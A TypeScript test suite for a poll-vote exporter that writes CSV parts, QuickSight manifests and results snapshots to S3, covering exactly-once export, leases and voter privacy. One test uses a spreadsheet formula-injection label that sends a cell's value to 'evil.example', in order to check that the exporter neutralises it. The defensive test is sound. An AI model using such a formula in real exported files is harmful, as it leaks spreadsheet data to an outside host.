import { gunzipSync } from 'node:zlib';
import { ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../functions/exporter/csv.ts';
import type { ExporterDeps } from '../../functions/exporter/exporter.ts';
import { manifestKey, resultsKey, votesPrefix } from '../../functions/exporter/layout.ts';
import { type LocalS3, startLocalS3 } from '../../local/s3/server.ts';
import { callers, type TestApi, testApi } from '../support/api.ts';
import { allItems, putRaw } from '../support/items.ts';
import { fromNow, HOUR, pollInput } from '../support/polls.ts';
import { changeRecord, functionsFor, voteRecord } from '../support/tally.ts';
import { download, exporterFor, partRows } from './support.ts';

let api: TestApi;
let s3: LocalS3;
let client: S3Client;

beforeAll(async () => {
  [api, s3] = await Promise.all([testApi('exporter'), startLocalS3()]);
  client = exporterFor(api.tables, s3).client;
});
afterAll(async () => {
  client?.destroy();
  await s3?.stop();
});

const exporter = (overrides: Partial<ExporterDeps> = {}) => exporterFor(api.tables, s3, overrides).exporter;

const newPoll = async (overrides: Record<string, unknown> = {}) => {
  const { data, errors } = await api.call(
    'Mutation.createPoll',
    {
      input: pollInput({
        demographicFields: ['AGE_GROUP', 'REGION', 'GENDER'],
        regions: ['EU', 'US'],
        ...overrides,
      }),
    },
    callers.admin,
  );
  expect(errors).toEqual([]);
  return (data as { id: string }).id;
};

let voters = 0;
/** Casts `count` votes from new devices; returns their voteIds. */
const castVotes = async (pollId: string, count: number, input: Record<string, unknown> = {}) => {
  const ids: string[] = [];
  for (let i = 0; i < count; i += 1) {
    voters += 1;
    const { data, errors } = await api.call('Mutation.castVote', {
      input: { pollId, optionId: `opt${(i % 3) + 1}`, voterToken: `device-${voters}-token`, ...input },
    });
    expect(errors).toEqual([]);
    ids.push((data as { voteId: string }).voteId);
  }
  return ids;
};

const keysUnder = async (prefix: string) => {
  const reply = await client.send(new ListObjectsV2Command({ Bucket: s3.bucket, Prefix: prefix }));
  return (reply.Contents ?? []).map((object) => object.Key as string).sort();
};

/** Every row of every part of a poll. */
const exportedRows = async (pollId: string) => {
  const rows: Record<string, string>[] = [];
  for (const key of await keysUnder(votesPrefix(pollId)))
    rows.push(...(await partRows(client, s3.bucket, key)));
  return rows;
};

const sorted = (values: string[]) => [...values].sort();

describe('the exporter', () => {
  it('exports every vote exactly once over three runs with votes arriving between them', async () => {
    const pollId = await newPoll();
    const cast = await castVotes(pollId, 5, { demographics: { ageGroup: '18_24', region: 'EU' } });

    const first = await exporter().run();
    cast.push(...(await castVotes(pollId, 4)));
    const second = await exporter().run();
    cast.push(...(await castVotes(pollId, 3, { demographics: { gender: 'WOMAN' } })));
    const third = await exporter().run();

    const runs = [first, second, third].map((run) => run.polls.find((poll) => poll.pollId === pollId));
    expect(runs.map((run) => run?.rows)).toEqual([5, 4, 3]);
    const rows = await exportedRows(pollId);
    expect(sorted(rows.map((row) => row.vote_id as string))).toEqual(sorted(cast));
    expect(rows.find((row) => row.vote_id === cast[0])).toMatchObject({
      poll_id: pollId,
      option_id: 'opt1',
      option_label: 'Red',
      age_group: '18_24',
      region: 'EU',
      gender: '',
    });
    expect(rows.find((row) => row.vote_id === cast[11])).toMatchObject({ age_group: '', gender: 'WOMAN' });
  });

  it('writes nothing for a poll without new votes', async () => {
    const pollId = await newPoll();
    await castVotes(pollId, 2);
    await exporter().run();
    const before = await keysUnder(votesPrefix(pollId));

    const again = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);

    expect(again).toMatchObject({ outcome: 'unchanged', rows: 0, parts: [] });
    expect(await keysUnder(votesPrefix(pollId))).toEqual(before);
  });

  it('still exports every vote exactly once when a run dies after its parts and before its watermark', async () => {
    const pollId = await newPoll();
    const cast = await castVotes(pollId, 6);
    const killed = await exporter({
      hooks: {
        afterParts: (id) => {
          if (id === pollId) throw new Error('killed');
        },
      },
    }).run();
    expect(killed.failures).toContainEqual({ pollId, error: 'killed' });
    const partsOfKilledRun = await keysUnder(votesPrefix(pollId));
    expect(partsOfKilledRun).toHaveLength(1);

    cast.push(...(await castVotes(pollId, 2)));
    const repeated = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);
    const next = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);

    expect(repeated).toMatchObject({ resumed: true, rows: 6, parts: partsOfKilledRun });
    expect(next).toMatchObject({ resumed: false, rows: 2 });
    const rows = await exportedRows(pollId);
    expect(sorted(rows.map((row) => row.vote_id as string))).toEqual(sorted(cast));
  });

  it('leaves a poll to the run holding it until that run’s lease runs out', async () => {
    const pollId = await newPoll();
    const cast = await castVotes(pollId, 3);
    await exporter({
      leaseMs: 60_000,
      hooks: {
        afterParts: (id) => {
          if (id === pollId) throw new Error('killed');
        },
      },
    }).run();

    const during = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);
    const after = (await exporter({ now: () => Date.now() + 61_000 }).run()).polls.find(
      (poll) => poll.pollId === pollId,
    );

    expect(during).toMatchObject({ outcome: 'busy', rows: 0 });
    expect(after).toMatchObject({ outcome: 'exported', resumed: true, rows: 3 });
    expect(sorted((await exportedRows(pollId)).map((row) => row.vote_id as string))).toEqual(sorted(cast));
  });

  it('writes a QuickSight manifest naming exactly the poll’s parts', async () => {
    const pollId = await newPoll();
    await castVotes(pollId, 5);
    await exporter({ maxRowsPerPart: 2 }).run();
    await castVotes(pollId, 1);
    await exporter().run();

    const parts = await keysUnder(votesPrefix(pollId));
    const manifest = JSON.parse((await download(client, s3.bucket, manifestKey(pollId))).toString('utf8'));

    expect(parts).toHaveLength(4);
    expect(parts.every((key) => /\/date=\d{4}-\d{2}-\d{2}\/[^/]+-\d{6}-\d{3}\.csv\.gz$/.test(key))).toBe(
      true,
    );
    expect(manifest).toEqual({
      fileLocations: [{ URIs: parts.map((key) => `s3://${s3.bucket}/${key}`) }],
      globalUploadSettings: { format: 'CSV', delimiter: ',', textqualifier: '"', containsHeader: 'true' },
    });
  });

  // A manifest may name at most 1,000 files and 10 GB, prefixes expanded; one over every poll outgrows that
  // within days (https://docs.aws.amazon.com/quicksight/latest/user/supported-manifest-file-format.html).
  // The stack's QuickSight reads the parts through Athena instead (test/infra/analytics.test.ts).
  it('writes no manifest over all polls, only one per poll', async () => {
    const pollId = await newPoll();
    await castVotes(pollId, 2);

    await exporter().run();

    const manifests = await keysUnder('manifests/');
    expect(manifests).toContain(manifestKey(pollId));
    expect(manifests.filter((key) => !/^manifests\/poll=[^/]+\.json$/.test(key))).toEqual([]);
  });

  it('never writes a voter token, user id or idempotency key', async () => {
    const pollId = await newPoll();
    await api.call('Mutation.castVote', {
      input: { pollId, optionId: 'opt1', voterToken: 'token-SECRET-2', idempotencyKey: 'idem-SECRET-3' },
    });
    await api.call(
      'Mutation.castVote',
      { input: { pollId, optionId: 'opt2' } },
      callers.user('sub-SECRET-4'),
    );
    expect(
      (await allItems(api.client, api.tables.VOTES_TABLE)).filter((v) => v.pollId === pollId),
    ).toHaveLength(2);

    await exporter().run();

    const keys = [...(await keysUnder(votesPrefix(pollId))), manifestKey(pollId), resultsKey(pollId)];
    expect(keys.length).toBeGreaterThanOrEqual(3);
    for (const key of keys) {
      const bytes = await download(client, s3.bucket, key);
      const text = (key.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString('utf8');
      expect(text).not.toMatch(/SECRET|VOTE#|device:|user:/);
    }
    const [header] = (await exportedRows(pollId)).map((row) => Object.keys(row));
    expect(header).toEqual([...CSV_COLUMNS]);
  });

  it('quotes labels and answers holding commas and quotes, and neutralises formulas', async () => {
    const labels = ['Red, dark', 'Say "hi"', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '-1'];
    const pollId = await newPoll({
      options: labels.map((label) => ({ label })),
      regions: ['North, "far" side', '@home'],
    });
    await castVotes(pollId, 3, { demographics: { region: 'North, "far" side' } });
    await castVotes(pollId, 1, { demographics: { region: '@home' } });
    await castVotes(pollId, 1, { optionId: 'opt4' });

    await exporter().run();

    const rows = await exportedRows(pollId);
    expect(sorted(rows.map((row) => row.option_label as string))).toEqual(
      sorted(['Red, dark', 'Red, dark', 'Say "hi"', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, '-1']),
    );
    expect(sorted(rows.map((row) => row.region as string))).toEqual(
      sorted(['North, "far" side', 'North, "far" side', 'North, "far" side', "'@home", '']),
    );
  });

  it('holds back votes younger than the lag until a later run', async () => {
    const pollId = await newPoll();
    const cast = await castVotes(pollId, 2);

    const held = (await exporter({ lagMs: 60_000 }).run()).polls.find((poll) => poll.pollId === pollId);
    const later = (await exporter({ lagMs: 60_000, now: () => Date.now() + 60_000 }).run()).polls.find(
      (poll) => poll.pollId === pollId,
    );

    expect(held).toMatchObject({ outcome: 'unchanged', rows: 0 });
    expect(later).toMatchObject({ outcome: 'exported', rows: 2 });
    expect(sorted((await exportedRows(pollId)).map((row) => row.vote_id as string))).toEqual(sorted(cast));
  });

  it('exports polls closed within the lookback and leaves older ones alone', async () => {
    const recent = await newPoll();
    const cast = await castVotes(recent, 2);
    await api.call('Mutation.closePoll', { id: recent }, callers.admin);
    const oldId = 'old-closed-poll';
    const closedAt = fromNow(-72 * HOUR);
    await putRaw(api.client, api.tables.POLLS_TABLE, {
      pk: `POLL#${oldId}`,
      sk: 'POLL',
      id: oldId,
      title: 'Old',
      options: [{ id: 'opt1', label: 'A' }],
      resultsVisibility: 'ALWAYS',
      demographicFields: [],
      createdAt: fromNow(-96 * HOUR),
      closedAt,
      listKey: 'CLOSED',
      listSort: `${closedAt}#${oldId}`,
    });
    await putRaw(api.client, api.tables.VOTES_TABLE, {
      pk: `VOTE#${oldId}#device:old`,
      voteId: '01H00000000000000000000000',
      pollId: oldId,
      optionId: 'opt1',
      castAt: fromNow(-80 * HOUR),
      exportBucket: `${oldId}#07`,
    });

    const run = await exporter().run();

    expect(run.polls.find((poll) => poll.pollId === recent)).toMatchObject({ rows: 2 });
    expect(run.polls.find((poll) => poll.pollId === oldId)).toBeUndefined();
    expect(sorted((await exportedRows(recent)).map((row) => row.vote_id as string))).toEqual(sorted(cast));
  });

  it('writes the results snapshot again when a change of vote moves the counts but not the total', async () => {
    const pollId = await newPoll({ allowVoteChange: true });
    // The tally counts a ballot and then its change (a MODIFY record), as the stream would carry them.
    const tally = functionsFor({ pollsTable: api.tables.POLLS_TABLE, redisUrl: null });
    const voter = { pollId, voter: 'device:changer' };
    try {
      await tally.tally('shard-x', [voteRecord(1, { ...voter, optionId: 'opt1' })]);
      const first = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);
      await tally.tally('shard-x', [
        changeRecord(2, { ...voter, n: 1, optionId: 'opt1' }, { ...voter, optionId: 'opt2' }),
      ]);
      const second = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);

      expect([first?.resultsWritten, second?.resultsWritten]).toEqual([true, true]);
      const results = JSON.parse((await download(client, s3.bucket, resultsKey(pollId))).toString('utf8'));
      expect(results.totalVotes).toBe(1);
      expect(results.options.map((option: { votes: number }) => option.votes)).toEqual([0, 1, 0]);
    } finally {
      tally.close();
    }
  });

  it('writes the results snapshot when the results change, and not again when they do not', async () => {
    const pollId = await newPoll();
    await castVotes(pollId, 1);

    const first = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);
    const second = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);
    await api.call('Mutation.closePoll', { id: pollId }, callers.admin);
    const third = (await exporter().run()).polls.find((poll) => poll.pollId === pollId);

    expect([first?.resultsWritten, second?.resultsWritten, third?.resultsWritten]).toEqual([
      true,
      false,
      true,
    ]);
    const results = JSON.parse((await download(client, s3.bucket, resultsKey(pollId))).toString('utf8'));
    expect(results).toMatchObject({
      pollId,
      status: 'CLOSED',
      options: [
        { optionId: 'opt1', label: 'Red' },
        { optionId: 'opt2', label: 'Green' },
        { optionId: 'opt3', label: 'Blue' },
      ],
    });
  });
});

describe('the exporter on ballots beyond one choice', () => {
  const ballot = async (input: Record<string, unknown>) => {
    const { data, errors } = await api.call('Mutation.castVote', { input });
    expect(errors).toEqual([]);
    return data as { voteId: string; castAt: string };
  };

  it('writes the kind and the whole ballot: MULTIPLE in option order, RANKED in order of preference', async () => {
    const multiple = await newPoll({ kind: 'MULTIPLE' });
    const ranked = await newPoll({ kind: 'RANKED' });
    const single = await newPoll();
    await ballot({ pollId: multiple, optionIds: ['opt3', 'opt1'], voterToken: 'export-kinds-1' });
    await ballot({ pollId: ranked, optionIds: ['opt3', 'opt1', 'opt2'], voterToken: 'export-kinds-1' });
    await ballot({ pollId: single, optionId: 'opt2', voterToken: 'export-kinds-1' });

    await exporter().run();

    const columns = ({
      kind,
      option_id,
      option_label,
      option_ids,
      replaced_vote_ids,
      history,
    }: Record<string, string>) => ({ kind, option_id, option_label, option_ids, replaced_vote_ids, history });
    expect((await exportedRows(multiple)).map(columns)).toEqual([
      {
        kind: 'MULTIPLE',
        option_id: 'opt1',
        option_label: 'Red',
        option_ids: 'opt1 opt3',
        replaced_vote_ids: '',
        history: '',
      },
    ]);
    expect((await exportedRows(ranked)).map(columns)).toEqual([
      {
        kind: 'RANKED',
        option_id: 'opt3',
        option_label: 'Blue',
        option_ids: 'opt3 opt1 opt2',
        replaced_vote_ids: '',
        history: '',
      },
    ]);
    expect((await exportedRows(single)).map(columns)).toEqual([
      {
        kind: 'SINGLE',
        option_id: 'opt2',
        option_label: 'Green',
        option_ids: 'opt2',
        replaced_vote_ids: '',
        history: '',
      },
    ]);
  });

  it('exports a changed ballot again as a new row naming the rows it replaced, so a recount keeps the last', async () => {
    const pollId = await newPoll({ kind: 'RANKED', allowVoteChange: true });
    const first = await ballot({ pollId, optionIds: ['opt1', 'opt2'], voterToken: 'export-change-1' });
    const other = await ballot({ pollId, optionIds: ['opt2'], voterToken: 'export-change-2' });
    await exporter().run();
    const second = await ballot({ pollId, optionIds: ['opt3'], voterToken: 'export-change-1' });
    const third = await ballot({ pollId, optionIds: ['opt2', 'opt3'], voterToken: 'export-change-1' });

    const run = await exporter().run();

    expect(run.polls.find((poll) => poll.pollId === pollId)?.rows).toBe(1);
    const rows = await exportedRows(pollId);
    expect(rows.map((row) => row.vote_id)).toEqual(
      expect.arrayContaining([first.voteId, other.voteId, third.voteId]),
    );
    expect(rows).toHaveLength(3);
    const changed = rows.find((row) => row.vote_id === third.voteId);
    expect(changed).toMatchObject({
      option_ids: 'opt2 opt3',
      replaced_vote_ids: `${first.voteId} ${second.voteId}`,
    });
    expect(JSON.parse(changed?.history as string)).toEqual([
      { voteId: first.voteId, optionIds: ['opt1', 'opt2'], castAt: first.castAt },
      { voteId: second.voteId, optionIds: ['opt3'], castAt: second.castAt },
    ]);
    // The recount of docs/exports.md: a row counts unless a row replaced it.
    const replaced = new Set(
      rows.flatMap((row) => (row.replaced_vote_ids as string).split(' ').filter(Boolean)),
    );
    const counted = rows.filter((row) => !replaced.has(row.vote_id as string));
    expect(counted.map((row) => row.option_ids).sort()).toEqual(['opt2', 'opt2 opt3']);
  });
});
